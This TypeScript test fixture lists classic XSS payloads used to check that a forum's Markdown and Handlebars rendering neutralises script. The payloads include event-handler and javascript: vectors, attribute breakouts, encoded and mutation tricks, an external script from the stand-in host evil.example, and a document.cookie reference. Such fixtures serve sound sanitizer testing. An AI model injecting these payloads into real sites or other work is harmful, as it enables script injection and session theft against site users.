/**
 * Classic XSS payloads for the forum's rendering paths (post bodies, thread titles, display
 * names). Each one is posted as-is; `visible` is the text a reader must still see in the
 * rendered post body, as text or image alt text (defaults to the payload itself: markup in
 * Markdown is shown as text).
 * Markdown legitimately rewrites some inputs (it decodes entities, turns `[x](url)` into a
 * link, formats code), so those entries say what text survives.
 */
export interface XssPayload {
  name: string;
  payload: string;
  /** Text that must remain readable in the rendered post body (whitespace-collapsed). */
  visible?: string;
}

export const XSS_PAYLOADS: XssPayload[] = [
  // Script tags and their disguises
  { name: 'script tag', payload: '<script>alert(1)</script>' },
  { name: 'upper-case external script', payload: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>' },
  { name: 'script with fromCharCode', payload: '<script>alert(String.fromCharCode(88,83,83))</script>' },
  { name: 'nested script to survive one strip', payload: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'double open bracket', payload: '<<script>alert(1)//<</script>' },
  { name: 'script inside template', payload: '<template><script>alert(1)</script></template>' },
  { name: 'script inside svg', payload: '<svg><script>alert(1)</script></svg>' },
  { name: 'CDATA-wrapped script', payload: '<![CDATA[<script>alert(1)</script>]]>' },
  // Event handlers
  { name: 'img onerror', payload: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror quoted', payload: '<img src="x" onerror="alert(1)">' },
  { name: 'img backtick attribute', payload: '<img src=`x`onerror=alert(1)>', visible: '<img src=xonerror=alert(1)>' },
  { name: 'img eval(src)', payload: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
  { name: 'svg onload', payload: '<svg onload=alert(1)>' },
  { name: 'body onload', payload: '<body onload=alert(1)>' },
  { name: 'input autofocus onfocus', payload: '<input autofocus onfocus=alert(1)>' },
  { name: 'details ontoggle', payload: '<details open ontoggle=alert(1)>' },
  { name: 'marquee onstart', payload: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'video source onerror', payload: '<video><source onerror="alert(1)"></video>' },
  { name: 'isindex onerror', payload: '<isindex type=image src=1 onerror=alert(1)>' },
  { name: 'anchor with onmouseover', payload: '<a href="https://ok.example" onmouseover="alert(1)">hover</a>' },
  // javascript:/vbscript:/data: in raw markup
  { name: 'anchor javascript href', payload: '<a href="javascript:alert(1)">click</a>' },
  { name: 'anchor leading-space javascript', payload: '<a href=" javascript:alert(1)">x</a>' },
  { name: 'anchor control-char javascript', payload: '<a href="&#14;javascript:alert(1)">x</a>', visible: 'javascript:alert(1)">x</a>' },
  { name: 'anchor newline-entity javascript', payload: '<a href="jav&#x0A;ascript:alert(1)">x</a>', visible: '<a href="jav ascript:alert(1)">x</a>' },
  { name: 'IMG mixed-case javascript', payload: "<IMG SRC=JaVaScRiPt:alert('XSS')>" },
  { name: 'iframe javascript', payload: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', payload: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'object data', payload: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed src', payload: '<embed src="javascript:alert(1)">' },
  { name: 'form action', payload: '<form action="javascript:alert(1)"><button>go</button></form>' },
  { name: 'button formaction', payload: '<button formaction="javascript:alert(1)">x</button>' },
  { name: 'svg xlink:href', payload: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>' },
  { name: 'math mglyph mutation', payload: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { name: 'base href', payload: '<base href="javascript:alert(1)//">' },
  { name: 'meta refresh', payload: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  // Style injection
  { name: 'style attribute url()', payload: '<div style="background:url(javascript:alert(1))">x</div>' },
  { name: 'style element', payload: '<style>body{background:url("javascript:alert(1)")}</style>' },
  { name: 'stylesheet link', payload: '<link rel=stylesheet href=javascript:alert(1)>' },
  // Breaking out of attributes and elements
  { name: 'close attribute then script', payload: '"><script>alert(1)</script>' },
  { name: 'single-quote attribute break', payload: "'><img src=x onerror=alert(1)>" },
  { name: 'double-quote onmouseover', payload: '" onmouseover="alert(1)' },
  { name: 'single-quote autofocus', payload: "' autofocus onfocus='alert(1)" },
  { name: 'close textarea', payload: '</textarea><script>alert(1)</script>' },
  { name: 'close title', payload: '</title><script>alert(1)</script>' },
  { name: 'comment confusion', payload: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: 'noscript confusion', payload: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'malformed img quotes', payload: '<img """><script>alert(1)</script>">' },
  // Encoded variants (Markdown decodes entities in text, so the reader sees the decoded form)
  { name: 'named entities', payload: '&lt;script&gt;alert(1)&lt;/script&gt;', visible: '<script>alert(1)</script>' },
  { name: 'numeric entities', payload: '&#60;script&#62;alert(1)&#60;/script&#62;', visible: '<script>alert(1)</script>' },
  { name: 'percent-encoded', payload: '%3Cscript%3Ealert(1)%3C/script%3E' },
  { name: 'JS unicode escapes', payload: '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e' },
  // Markdown link and image tricks
  { name: 'md javascript link', payload: '[x](javascript:alert(1))' },
  { name: 'md mixed-case javascript link', payload: '[x](JaVaScRiPt:alert(1))' },
  { name: 'md entity javascript link', payload: '[x](&#106;avascript:alert(1))', visible: '[x](javascript:alert(1))' },
  { name: 'md hex-entity javascript link', payload: '[x](&#x6A;avascript&#x3A;alert(1))', visible: '[x](javascript:alert(1))' },
  { name: 'md tab-entity javascript link', payload: '[x](jav&#x09;ascript:alert(1))', visible: 'x' },
  { name: 'md colon-entity javascript link', payload: '[x](javascript&colon;alert(1))', visible: '[x](javascript:alert(1))' },
  { name: 'md padded javascript link', payload: '[x](  javascript:alert(1)  )' },
  { name: 'md angle-bracket javascript link', payload: '[x](<javascript:alert(1)>)' },
  { name: 'md vbscript link', payload: '[x](vbscript:msgbox(1))' },
  { name: 'md data:text/html link', payload: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'md reference javascript link', payload: '[x][evil]\n\n[evil]: javascript:alert(1)', visible: '[x][evil] [evil]: javascript:alert(1)' },
  { name: 'md title breaks attribute', payload: '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")', visible: 'x' },
  { name: 'md javascript image', payload: '![x](javascript:alert(1))' },
  { name: 'md data:svg image', payload: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  { name: 'md data:png image', payload: '![x](data:image/png;base64,iVBORw0KGgo=)', visible: 'x' },
  { name: 'md image alt breaks attribute', payload: '![x" onerror="alert(1)](https://img.example/a.png)', visible: 'x" onerror="alert(1)' },
  { name: 'md link wrapping raw img', payload: '[<img src=x onerror=alert(1)>](https://ok.example)', visible: '<img src=x onerror=alert(1)>' },
  { name: 'md javascript autolink', payload: '<javascript:alert(1)>' },
  { name: 'md autolink with markup', payload: '<https://ok.example/?q="><script>alert(1)</script>>', visible: 'https://ok.example/?q="<script>alert(1)</script>>' },
  { name: 'linkify with quote break', payload: 'https://ok.example/"onmouseover="alert(1)' },
  { name: 'plain javascript: text', payload: 'javascript:alert(document.cookie)' },
  { name: 'code span script', payload: '`<script>alert(1)</script>`', visible: '<script>alert(1)</script>' },
  { name: 'fenced code script', payload: '```html\n<script>alert(1)</script>\n```', visible: '<script>alert(1)</script>' },
  { name: 'mention next to script', payload: '@someone <script>alert(1)</script>' },
  // Template injection (Handlebars renders data, it must never evaluate it)
  { name: 'handlebars constructor', payload: "{{constructor.constructor('alert(1)')()}}" },
  { name: 'handlebars triple-stash', payload: '{{{html}}} {{> post}} {{csrfToken}}' },
  { name: 'handlebars with/sub.apply', payload: '{{#with "s" as |string|}}{{string.sub.apply 0 "alert(1)"}}{{/with}}' },
  { name: 'JS template literal', payload: '${alert(1)}' },
];
